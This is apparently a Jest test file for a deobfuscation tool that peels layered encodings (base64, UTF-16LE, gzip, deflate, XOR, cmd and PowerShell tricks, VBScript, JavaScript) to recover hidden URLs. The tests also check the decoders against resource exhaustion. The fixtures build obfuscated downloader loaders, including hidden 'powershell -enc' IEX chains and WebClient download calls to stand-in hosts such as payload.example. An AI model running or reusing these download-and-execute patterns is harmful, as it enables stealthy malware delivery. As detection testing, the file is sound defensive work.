import { randomBytes } from 'node:crypto';
import { deflateRawSync, gzipSync } from 'node:zlib';
import { describe, expect, it } from '@jest/globals';
import fc from 'fast-check';
import { flat } from '../peel-many.js';
import { peel } from '../peel.js';
import { PEEL_LIMITS } from '../types.js';
import { rewritten } from './scripts.test-helper.js';
import { SCRIPTS } from './scripts.js';

const b64 = (data: string | Buffer) => Buffer.from(data).toString('base64');
const utf16 = (text: string) => Buffer.from(text, 'utf16le');
const layersOf = (value: string) => flat(peel(value, PEEL_LIMITS).layers).map(({ encoding }) => encoding);
const urlsOf = (value: string) => peel(value, PEEL_LIMITS).indicators.filter(({ type }) => type === 'url').map(({ value: url }) => url);

const INNER = "$c = New-Object Net.WebClient; $c.DownloadFile('http://payload.example/a.exe', 'a.exe')";
const gzipLoader = (script: string) =>
  `IEX (New-Object IO.StreamReader((New-Object IO.Compression.GzipStream([IO.MemoryStream][Convert]::FromBase64String('${b64(gzipSync(script))}'),[IO.Compression.CompressionMode]::Decompress)),[Text.Encoding]::ASCII)).ReadToEnd()`;

describe('scripts inside other layers', () => {
  it('unpacks powershell -enc of a gzip loader to the script and its URL', () => {
    const value = `powershell.exe -NoP -W Hidden -enc ${b64(utf16(gzipLoader(INNER)))}`;
    expect(layersOf(value)).toEqual(['base64', 'utf-16le', 'base64', 'gzip']);
    expect(urlsOf(value)).toEqual(['http://payload.example/a.exe']);
  });

  it('unpacks the same with its base64 and its commands taken apart', () => {
    const packed = b64(gzipSync(INNER));
    const loader = gzipLoader(INNER).replace(`'${packed}'`, `('${packed.slice(0, 30)}'+'${packed.slice(30)}')`).replace('IEX ', "&('I'+'EX') ");
    const value = `cmd /c "p^ow^er^shell -e ${b64(utf16(loader))}"`;
    expect(layersOf(value)).toEqual(['cmd', 'base64', 'utf-16le', 'powershell', 'base64', 'gzip']);
    expect(urlsOf(value)).toEqual(['http://payload.example/a.exe']);
  });

  it.each<[string, string, string[], string]>([
    ['a deflate loader with joined base64', `IEX (New-Object IO.StreamReader((New-Object IO.Compression.DeflateStream([IO.MemoryStream][Convert]::FromBase64String(${b64(deflateRawSync(INNER)).replace(/^(.{20})(.*)$/, "'$1'+'$2'")}),[IO.Compression.CompressionMode]::Decompress)))).ReadToEnd()`,
      ['powershell', 'base64', 'deflate'], 'http://payload.example/a.exe'],
    ['cmd in cmd around PowerShell', `cmd /c "set x=IEX('(New-Object Net.WebClient).Down'+'loadString(''http://a.example/s'')')&&cm^d /c p^owersh^ell -c %x%"`, ['cmd', 'powershell'], 'http://a.example/s'],
    ['a page with two scripts', '<html><script>var a="ht"+"tp://one.example/x";</script><script language="vbscript">u = "ht" & "tp://two.example/y"\nSet o = CreateObject("a" & "b")</script></html>', ['vba', 'javascript'], 'http://one.example/x'],
    ['VBScript that writes PowerShell', `Set s = CreateObject("WScr" & "ipt.Shell")\ns.Run "powershell -e ${b64(utf16("iwr 'http://b.example/q'"))}" & "AA", 0`, ['vba', 'base64', 'utf-16le'], 'http://b.example/q'],
    ['JavaScript with base64 in pieces', `var d = "${b64('http://c.example/long/path').slice(0, 10)}" + "${b64('http://c.example/long/path').slice(10)}"; var w = new ActiveXObject("W" + "Script.Shell"); w.Run(d);`, ['javascript', 'base64', 'base64'], 'http://c.example/long/path'],
    ['bytes under XOR', `$k=0x21;$d=[byte[]](${[...Buffer.from('http://d.example/z')].map((byte) => byte ^ 0x21).join(',')}); for($i=0;$i -lt $d.Length;$i++){$d[$i]=$d[$i] -bxor $k}; IEX ("iwr '"+[Text.Encoding]::UTF8.GetString($d)+"'")`, ['powershell', 'base64', 'xor (key 0x21: reads as text)'], 'http://d.example/z'],
  ])('unpacks %s', (_name, value, layers, url) => {
    expect(layersOf(value)).toEqual(layers);
    expect(urlsOf(value)).toContain(url);
  });

  it('leaves a loader to the layers of its data where nothing else is hidden', () => {
    expect(layersOf(gzipLoader(INNER))).toEqual(['base64', 'gzip']);
  });
});

const SAMPLES = [
  `IEX ("{1}{0}" -f 'b','a'); ('a'+"b$x").Replace('a','b') -join '' | % { [char]($_ -bxor 5) }; [char[]](72,101) -join ''; $a='x';$a+='y';& ($env:ComSpec[4,15,25]-join'') $a`,
  `for($i=0;$i -lt 9;$i++){$s+=[char]($i+65)}; "$(('a'+'b')) $s" | iex; @{a='b'+'c'}; [Convert]::FromBase64String('QUJD'); I\`E\`X 'a'; -join('abc'[-1..-3])`,
  `cmd /v /c "set a=po^wer&&set b=shell&&for %x in (a b c) do set c=!c!%x&&call %a%%b:~0,3% !c:a=b! & (echo ^& "q"uo"te) | p^ow"er"shell"`,
  `var a=['x','y'];(function(p,n){while(--n){p.push(p.shift());}}(a,0x3));var s='';for(var i=0;i<3;i++){s+=String.fromCharCode(97^i)};eval("\\x61"+s+unescape('%41')+a[0x1]+\`t\${s}\`.replace(/x/g,'y'))`,
  `Sub A()\nDim s: s = Chr(72) & StrReverse("cba") & _\n "d"\nFor Each c In Array(1,2,&H41): s = s & Chr(c Xor 3): Next\nIf a = 1 Then Execute(Mid("abc", 2)) Else Shell Join(Split("a|b", "|"), "")\nEnd Sub`,
];

describe('bounds of the script decoders', () => {
  const CAP = 20_000;
  const all = (text: string) => SCRIPTS.map((decoder) => rewritten(decoder, text, CAP)).filter((one) => one !== null);

  it('survive mutations of hidden scripts, within their bounds', () => {
    const mutation = fc.record({ at: fc.nat(400), length: fc.nat(12), put: fc.constantFrom('', '"', "'", '`', '(', ')', '{', '}', '[', ']', '%', '^', '\\', '$', '&', '|', ';', '\n', '+', ',', '=', '..', '0x', '-', '@(', '$(', '"$(', '<#', '/*', '*9999999', '.repeat(99999999)', ' _\n', '[-1..-99999999]', '!') });
    const text = fc.tuple(fc.constantFrom(...SAMPLES), fc.array(mutation, { minLength: 1, maxLength: 6 }))
      .map(([sample, changes]) => changes.reduce((value, { at, length, put }) => value.slice(0, at % (value.length + 1)) + put + value.slice((at % (value.length + 1)) + length), sample));
    fc.assert(fc.property(text, (value) => {
      for (const result of all(value)) expect(Buffer.byteLength(result)).toBeLessThanOrEqual(CAP);
    }), { numRuns: 1_000 });
  }, 60_000);

  it('never throw on any text', () => {
    fc.assert(fc.property(fc.string({ unit: 'binary', maxLength: 200 }), fc.constantFrom(...SAMPLES), fc.nat(300), (noise, sample, at) => {
      all(noise);
      all(sample.slice(0, at) + noise + sample.slice(at));
    }), { numRuns: 200 });
  });

  it.each<[string, string]>([
    ['nothing', ''],
    ['open brackets', `iex ${'('.repeat(60_000)}'a'+'b'`],
    ['open braces', `function f(){${'{'.repeat(60_000)} eval('a'+'b')`],
    ['open lists', `var a = ${'['.repeat(50_000)}'a'+'b'; eval(1)`],
    ['unary operators', `iex ${'-'.repeat(50_000)}1; [char]65+[char]66`],
    ['casts', `iex ${'[char]'.repeat(30_000)}65`],
    ['a long chain', `iex (${"'ab'+".repeat(50_000)}'c')`],
    ['a long chain of JavaScript', `var a = ${'"ab"+'.repeat(50_000)}"c"; eval(a)`],
    ['a long chain of VBA', `Set a = CreateObject(${'"ab" & '.repeat(50_000)}"c")`],
    ['calls on calls', `var a = 'a'${".replace('a','aa')".repeat(10_000)}; eval('a'+'b')`],
    ['members', `iex $a${'.b'.repeat(50_000)} + ('a'+'b')`],
    ['open texts', `iex ${'"$('.repeat(50_000)}`],
    ['texts in texts', `iex ${'"$('.repeat(2_000)}'a'+'b'${')"'.repeat(2_000)}`],
    ['carets', `cmd /c ${'^'.repeat(500_000)}x^y^z`],
    ['cmd brackets', `cmd /c ${'('.repeat(50_000)}set a=b&&%a%%a%`],
    ['a loop in a loop', `cmd /c "${'for /L %a in (1,1,9999) do '.repeat(8)} set x=!x!!x!a"`],
    ['growing variables', `set a=aaaaaaaaaa\n${'set a=%a%%a%%a%%a%%a%%a%%a%%a%%a%%a%\n'.repeat(50)}call %a%%a%`],
    ['growing texts', `$a='aaaaaaaaaa';${'$a=$a+$a;'.repeat(60)} iex ($a+$a+'b'+'c')`],
    ['growing lists', `$a=1..100000;${'$a=$a+$a;'.repeat(40)} iex (('a'+'b')+($a -join ''))`],
    ['growing JavaScript', `var a='aaaaaaaaaa';${'a=a+a;'.repeat(60)} eval(a+'b'+'c')`],
    ['a repetition', `var a = 'ab'.repeat(99999999999); eval('a'+'b')`],
    ['many loops', `$s='';${'foreach($i in 1..100000){$s=[char]65};'.repeat(20)} iex ('a'+'b')`],
    ['many names', `${Array.from({ length: 10_000 }, (_, at) => `$v${at}='a'+'b';`).join('')} iex ($v1+$v2)`],
    ['many lines of VBA', 'x = x & Chr(65) & "b"\n'.repeat(15_000)],
    ['nested ifs', `Sub a()\n${'If a Then\n'.repeat(15_000)}x = "a" & "b"\n`],
    ['noise', `iex ('a'+'b') ${randomBytes(100_000).toString('latin1')}`],
    ['a text of megabytes', `iex ('a'+'b'+'${'A'.repeat(3_000_000)}')`],
  ])('get through %s', (_name, value) => {
    for (const result of all(value)) expect(Buffer.byteLength(result)).toBeLessThanOrEqual(CAP);
  });
});
